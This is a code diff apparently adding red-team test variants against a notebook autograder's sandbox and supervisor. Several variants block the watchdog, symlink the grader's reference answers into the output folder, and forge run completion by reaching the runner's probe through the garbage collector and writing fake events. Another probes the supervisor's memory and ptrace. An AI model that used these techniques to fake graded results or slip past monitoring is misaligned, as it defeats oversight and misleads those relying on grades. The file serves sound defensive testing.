@@ -281,7 +281,6 @@ with open("/job/out/progress.jsonl", "a") as fh:
         fh.write(json.dumps(event) + "\\n")
 os._exit(0)''',), note="before: int('x') crashed the grader; cell:99 cost every pass"),
     Variant("blocks_the_watchdog", A05, insert_first=('''import os
-os.remove("/job/out/progress.jsonl")
 os.mkfifo("/job/out/progress.jsonl")  # a plain open() of a fifo blocks until someone writes
 while True:
     try:
@@ -289,6 +288,52 @@ while True:
             n = 0
     except BaseException:
         pass''',), note="before: the watchdog blocked in open() and no time limit held any more"),
+]
+# --- red-team findings 1 and 2: the run's end forged from inside the notebook's interpreter ------
+# The runner's own probe, reached through the garbage collector, with its input check switched off:
+# outputs written by the probe's own writer, then this cell's end claimed on the events pipe.
+FORGED_RUN = '''import gc, json, os
+runner = next(o for o in gc.get_objects() if isinstance(o, dict) and "_probe" in o and "EVENTS_FD" in o)
+probe = runner["_probe"]
+probe["_modified"] = lambda *a, **k: False
+class _Quiet:
+    def event(self, *a, **k):
+        pass
+calls = json.load(open("/job/in/calls.json"))
+doc, arrays = probe["run"](globals(), calls, probe["load_inputs"]("/job/in/inputs.npz"), set(), _Quiet(), 5.0)
+probe["write_outputs"]("/job/out", doc, arrays)
+me = [c["index"] for c in json.load(open("/job/in/cells.json"))["cells"]][-1]
+os.write(runner["EVENTS_FD"], (json.dumps({"item": f"cell:{me}", "event": "end", "status": "ok"}) + "\\n").encode())
+'''
+WRITES += [
+    # Reaches the runner's own probe through `gc`, switches its input check off, writes
+    # the outputs with the probe's own writer, claims its cell's end on the runner's events pipe and
+    # exits. Before the supervisor: graded from the forged files (momentum 1.67 -> 2.0), no rerun.
+    Variant("forges_the_run_from_the_runners_memory", A04, append=(FORGED_RUN + '''
+os.write(runner["EVENTS_FD"], (json.dumps({"item": "supervisor", "event": "done"}) + "\\n").encode())
+os._exit(0)''',), replace={"momentum_step": MOMENTUM_MODIFIES_INPUT}, lost=MOMENTUM_LOST),
+    Variant("forges_the_runs_end_on_the_events_pipe", A04, append=(FORGED_RUN + '''
+os.write(runner["EVENTS_FD"], (json.dumps({"item": "runner", "event": "outputs"}) + "\\n").encode())
+os._exit(0)''',), replace={"momentum_step": MOMENTUM_MODIFIES_INPUT}, lost=MOMENTUM_LOST),
+    # Looks for what decides that a run finished: a key in the runner's memory, the supervisor's
+    # socket, its memory; tries to stop or trace it. Everything fails; nothing is gained.
+    Variant("looks_for_the_supervisors_secrets", A05, insert_first=(ATTEMPT + '''import ctypes, gc, os, signal
+sup = os.getppid()
+attempt("key in memory", lambda: sorted(n for n in ("_KEY", "KEY", "key") if n in vars(sys.modules["__main__"])))
+attempt("stop", lambda: os.kill(sup, signal.SIGSTOP))
+attempt("socket", lambda: open(f"/proc/{sup}/fd/0", "rb").read(1))
+attempt("memory", lambda: open(f"/proc/{sup}/mem", "rb").read(1))
+attempt("environ", lambda: open(f"/proc/{sup}/environ", "rb").read(1))
+attempt("ptrace", lambda: ctypes.CDLL(None, use_errno=True).ptrace(16, sup, 0, 0) or ctypes.get_errno())
+attempt("uid", lambda: (os.getuid(), os.stat(f"/proc/{sup}").st_uid))
+attempt("caps", lambda: sorted(line.split()[1] for line in open("/proc/self/status") if line.startswith("Cap")))
+attempt("no_new_privs", lambda: [line.split()[1] for line in open("/proc/self/status") if line.startswith("NoNewPrivs")])
+'''.replace("import ctypes", "import sys, ctypes") + REPORT,)),
+]
+WRITES += [
+    # An at-fork hook that never returns: the runner's final fork must not run it.
+    Variant("blocks_the_final_fork", A05, insert_first=("import os, time\nos.register_at_fork(before=lambda: time.sleep(10**6))",),
+            note="before: the run hung after the probe until the watchdog killed it"),
 ]
 TWINS["rewrites_results_after_the_probe"] = Variant("momentum_modifies_input_twin", A04,
                                                     replace={"momentum_step": MOMENTUM_MODIFIES_INPUT})
@@ -445,7 +490,6 @@ def plants_symlinks(reference_folder: str) -> Variant:
     """A wrong l1_penalty, and /job/out filled with symlinks: to the grader's own reference outputs
     for this assignment (every answer right), to /etc files, and with a directory in the way."""
     return Variant("plants_symlinks", A05, insert_first=(f'''import os
-os.remove("/job/out/progress.jsonl")
 os.symlink("/etc/passwd", "/job/out/progress.jsonl")
 os.symlink("{reference_folder}/probe.json", "/job/out/probe.json")
 os.symlink("{reference_folder}/arrays.npz", "/job/out/arrays.npz")
@@ -485,5 +529,17 @@ def momentum_step(theta, grad, m, learning_rate, beta=0.9):
             snapshot[...] = caller["passed"][i]
     return np.asarray(theta, float) - m, m.copy()'''}, lost=MOMENTUM_LOST,
         note="in-process: a function can reach the probe's frames; values still have to be right"),
+    # Plays the runner's whole side of the supervisor's protocol (every call started and ended, then
+    # the outputs): the supervisor cannot tell it from a real run (README, known limits).
+    Variant("plays_the_whole_protocol", A04, append=(FORGED_RUN + '''
+skip = set(json.load(open("/job/in/cells.json")).get("skip", []))
+for call in calls:
+    if "probe:" + call["id"] not in skip:
+        for kind in ("start", "end"):
+            os.write(runner["EVENTS_FD"], (json.dumps({"item": "probe:" + call["id"], "event": kind}) + "\\n").encode())
+os.write(runner["EVENTS_FD"], (json.dumps({"item": "runner", "event": "outputs"}) + "\\n").encode())
+os._exit(0)''',), replace={"momentum_step": MOMENTUM_MODIFIES_INPUT}, lost=MOMENTUM_LOST,
+        note="in-process: the protocol can be replayed; values still have to be computed"),
 ]
 TWINS["walks_the_stack_to_the_probe"] = TWINS["rewrites_results_after_the_probe"]
+TWINS["plays_the_whole_protocol"] = TWINS["rewrites_results_after_the_probe"]
